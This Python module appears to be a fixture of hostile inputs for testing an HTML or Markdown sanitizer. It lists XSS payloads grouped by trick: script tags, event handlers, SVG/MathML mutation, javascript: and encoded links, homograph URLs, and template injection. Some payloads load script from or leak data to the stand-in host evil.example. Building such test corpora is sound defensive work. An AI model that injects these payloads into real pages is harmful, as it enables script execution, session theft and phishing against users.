"""Hostile input for whatever becomes HTML: one line a payload, grouped by the trick."""

OURS = "https://example.org/case"

TAGS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script
<<script>alert(1);//<</script>
<script>//<![CDATA[
alert(1)
//]]></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<form action="https://evil.example"><button>Go</button></form>
<isindex type=image src=1 onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<marquee onstart=alert(1)>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<dialog open onclose=alert(1)>
<applet code="x.class">
<frameset onload=alert(1)>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
"""

EVENTS = (
    r"""
<img src=x onerror=alert(1)>
<img/src="x"/onerror="alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=xss>
<IMG """
    + '"""'
    + r"""><SCRIPT>alert(1)</SCRIPT>">
<img src=`x`onerror=alert(1)>
<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<body onload=alert(1)>
<div onmouseover=alert(1)>over</div>
<p onpointerenter=alert(1)>over</p>
<a onclick=alert(1)>click</a>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<b style="animation-name:x" onanimationstart=alert(1)>x</b>
<strong onclick=alert(1)>x</strong>
<code onmouseover="alert(1)">x</code>
<h2 onclick=alert(1) id=x style="position:fixed">x</h2>
<td background="javascript:alert(1)">x</td>
<p class="x" id="main" style="background:url(https://evil.example/?leak)">x</p>
"""
)

FOREIGN = r"""
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
"""

LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](java&#115;cript:alert(1))
[x](java&Tab;script:alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))
[x](javascript&colon;alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example/x)
[x](\\evil.example\x)
[x](https://evil.example/phish)
[x](http://example.org/case)
[x](https://example.org/case?next=//evil.example)
[x](https://example.org/case#a" onclick="alert(1))
[x](https://example.org/case "title" onclick=alert(1))
[x](https://example.org/case 'a" onmouseover="alert(1)')
[x](https://example.org@evil.example/case)
[https://example.org/case](https://evil.example/)
[x][r]\n\n[r]: javascript:alert(1)
[x][r]\n\n[r]: https://evil.example/ "x"
<javascript:alert(1)>
<https://evil.example/>
<a@evil.example>
mailto:a@evil.example
https://evil.example/seed
www.evil.example
evil.example/claim
ftp://evil.example/x
https://exаmple.org/case
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x](https://example.org/case)
![x" onerror="alert(1)](x)
[![x](https://evil.example/p.gif)](https://evil.example/)
[x](https://example.org/case"onmouseover=alert(1)//)
<a href="https://example.org/case" onclick=alert(1)>x</a>
<a href=" &#14; javascript:alert(1);">x</a>
<a href="javascript&#0;:alert(1)">x</a>
<a href=`javascript:alert(1)`>x</a>
<a href="https://evil.example" ping="https://evil.example" target=_top>x</a>
"""

MARKDOWN = r"""
**bold<script>alert(1)</script>**
`<script>alert(1)</script>`
    <script>alert(1)</script>
```html\n<script>alert(1)</script>\n```
> <img src=x onerror=alert(1)>
# <svg onload=alert(1)>
| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |
1. <iframe src=//evil.example>
*[HTML]: <script>alert(1)</script>
text{: onclick=alert(1) }
# head {#main onclick=alert(1)}
[TOC]
[^1]\n\n[^1]: <img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script\>alert(1)\</script\>
<scr\0ipt>alert(1)</scr\0ipt>
\u2028<script>alert(1)</script>
<img src=x onerror=alert(1)
[x](https://example.org/case
**unfinished <b
\x02klzzwxh:0000\x03
\x02wzxhzdk:0\x03<script>alert(1)</script>
{{ 7*7 }}{% csrf_token %}{{ request.META }}
${alert(1)}<%= 7*7 %>
"""


def payloads() -> list[str]:
    """Every payload, with the escapes of control characters and line ends resolved."""
    special = {r"\n": "\n", r"\0": "\0", r"\u2028": "\u2028", r"\x02": "\x02", r"\x03": "\x03"}
    found = []
    for line in "\n".join([TAGS, EVENTS, FOREIGN, LINKS, MARKDOWN]).splitlines():
        for written, character in special.items():
            line = line.replace(written, character)
        if line.strip():
            found.append(line)
    return found
